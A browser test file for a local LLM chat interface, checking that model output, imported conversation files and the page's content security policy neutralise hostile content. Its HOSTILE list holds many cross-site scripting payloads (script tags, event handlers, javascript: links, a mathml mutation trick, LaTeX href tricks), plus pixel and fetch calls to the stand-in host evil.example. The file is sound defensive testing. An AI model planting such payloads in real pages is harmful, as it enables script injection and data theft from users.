// Texts of strangers: whatever a model writes, the page shows it and does nothing of it.

import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import { answerWith, ask, close, go, open, settings, shot, told, url } from "./common.mjs";

const HOSTILE = [
  "<script>window.hit = 1</script>",
  "<img src=x onerror='window.hit = 1'>",
  "<svg onload='window.hit = 1'><a xlink:href='javascript:window.hit=1'>x</a></svg>",
  "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
  "<a href='javascript:window.hit = 1'>raw</a> [md](javascript:window.hit=1) [data](data:text/html,<script>1</script>)",
  "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><input name=app><button>go</button></form><base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "![pixel](https://evil.example/pixel.png?secret) ![x](javascript:window.hit=1)",
  "<b onclick='window.hit = 1' style='position:fixed;inset:0'>bold</b> <details open ontoggle='window.hit = 1'>d</details>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'></table></math>",
  "$\\href{javascript:window.hit=1}{x}$ and $\\text{<img src=x onerror=window.hit=1>}$ and $\\class{toast}{y}$",
  "$$\\begin{matrix} \\includegraphics{https://evil.example/x.png} \\end{matrix}$$",
  "`<script>window.hit = 1</script>`",
  "```html\"onmouseover=window.hit=1\n<script>window.hit = 1</script>\n```",
  "[a]: javascript:window.hit=1\n\n[a]",
  "<div id=app><div id=state>owned</div></div>",
].join("\n\n");

export const flows = {
  async "hostile Markdown and HTML do nothing"() {
    const page = await open();
    await answerWith(page, HOSTILE);
    await page.fill("#prompt", HOSTILE);
    await page.press("#prompt", "Enter");
    await page.waitForSelector("figure.code");
    await page.waitForTimeout(600);
    for (const element of await page.locator(".prose b, .prose details, .prose a").all()) await element.dispatchEvent("click").catch(() => {});
    assert.equal(await page.evaluate(() => window.hit), undefined);
    const bad = "script, img, svg image, iframe, style, form, input, link, meta, base, object, embed, [onclick], [onerror], [onload], [style], [id]";
    assert.equal(await page.locator(bad.split(", ").map((one) => `.prose ${one}`).join(", ")).count(), 0);
    const addresses = await page.locator(".prose [href]").evaluateAll((all) => all.map((one) => one.getAttribute("href")));
    assert.ok(addresses.every((one) => one.startsWith("https://")), addresses.join(" "));
    assert.match(await page.locator(".prose").textContent(), /<script>window\.hit = 1<\/script>/);
    assert.equal(await page.locator("#app").count(), 1);
    await page.setViewportSize({ width: 1280, height: 1700 });
    await shot(page, "desktop-hostile");
    await close(page);
  },

  async "the policy stops a script that stands in the page all the same"() {
    const page = await open();
    await page.evaluate(() => {
      window.blocked = [];
      addEventListener("securitypolicyviolation", (event) => window.blocked.push(event.effectiveDirective));
      const script = document.createElement("script");
      try {
        script.textContent = "window.hit = 1";
        document.body.append(script);
      } catch (error) {
        window.blocked.push(error.name);
      }
      try {
        document.body.insertAdjacentHTML("beforeend", "<p>x</p>");
      } catch (error) {
        window.blocked.push(error.name);
      }
    });
    await page.evaluate(() => fetch("https://evil.example/").catch(() => {}));
    await page.waitForFunction(() => window.blocked.includes("connect-src"));
    assert.equal(await page.evaluate(() => window.hit), undefined);
    assert.ok((await page.evaluate(() => window.blocked)).includes("TypeError"));
    await page.context().close();
  },

  async "a hostile file of conversations does nothing"() {
    const page = await open();
    await go(page, "settings");
    const node = { id: "n", role: "assistant", parent: null, content: HOSTILE, created: 1, judgement: { item: 1, kind: "good" }, attachments: [{ name: {}, text: 5 }] };
    const file = { format: "ruvllm-conversations", version: 1, conversations: [{ id: "../x", title: "<img src=x onerror=window.hit=1>", nodes: { n: node }, leaf: "n", settings: { temperature: "<b>" } }] };
    await page.setInputFiles("#import", { name: "x.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(file)) });
    await told(page, /1 conversations are imported/);
    await page.locator("#conversations a").click();
    await page.waitForSelector("figure.code");
    assert.equal(await page.evaluate(() => window.hit), undefined);
    assert.equal(await page.locator(".learned").count(), 0);
    const odd = { ...file, conversations: [{ nodes: { n: { ...node, role: "system" } } }] };
    await go(page, "settings");
    await page.setInputFiles("#import", { name: "x.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(odd)) });
    await told(page, /cannot be imported/);
    await close(page);
  },

  async "code is coloured and copied, formulas are drawn, and both come when they are needed"() {
    const page = await open({ permissions: ["clipboard-read", "clipboard-write"] });
    const loaded = [];
    page.on("response", (response) => loaded.push(new URL(response.url()).pathname));
    assert.ok(!loaded.some((path) => /math|highlight/.test(path)));
    await answerWith(page, "It is $e^{i\\pi} = -1$, it costs $5 or $6.\n\n```python\nprint('one')\n```");
    await ask(page, "Show both");
    await page.waitForSelector("math");
    await page.waitForSelector(".hljs-string");
    assert.equal(await page.locator("math").count(), 1);
    assert.match(await page.locator(".prose").textContent(), /it costs \$5 or \$6/);
    assert.ok(loaded.includes("/page/math.js") && loaded.includes("/page/highlight.js"));
    await page.click(".copy");
    await page.waitForSelector("text=Copied");
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "print('one')");
    await close(page);
  },

  async "the first load is small, packed, and not sent twice"() {
    const page = await open();
    const paths = ["/", "/page/app.js", "/page/app.css", "/page/icon.svg"];
    let packed = 0;
    for (const path of paths) {
      const response = await fetch(url + path, { headers: { "accept-encoding": "gzip" } });
      const body = Buffer.from(await response.arrayBuffer());
      if (path !== "/page/icon.svg") assert.equal(response.headers.get("content-encoding"), "gzip", path);
      packed += gzipSync(body).length;
      const tag = response.headers.get("etag");
      const again = await fetch(url + path, { headers: { "accept-encoding": "gzip", "if-none-match": tag } });
      assert.equal(again.status, 304, path);
      const policy = response.headers.get("content-security-policy");
      assert.ok(/default-src 'none'/.test(policy) && /require-trusted-types-for 'script'/.test(policy) && !/unsafe/.test(policy), policy);
    }
    assert.ok(packed <= 300 * 1024, `${packed} bytes`);
    console.log(`first load: ${packed} bytes packed`);
    const html = await (await fetch(`${url}/`)).text();
    assert.ok(!/<script(?![^>]*src=)|<style|style=|\son\w+=/i.test(html), "something stands within the page");
    await settings(page, {});
    await close(page);
  },
};
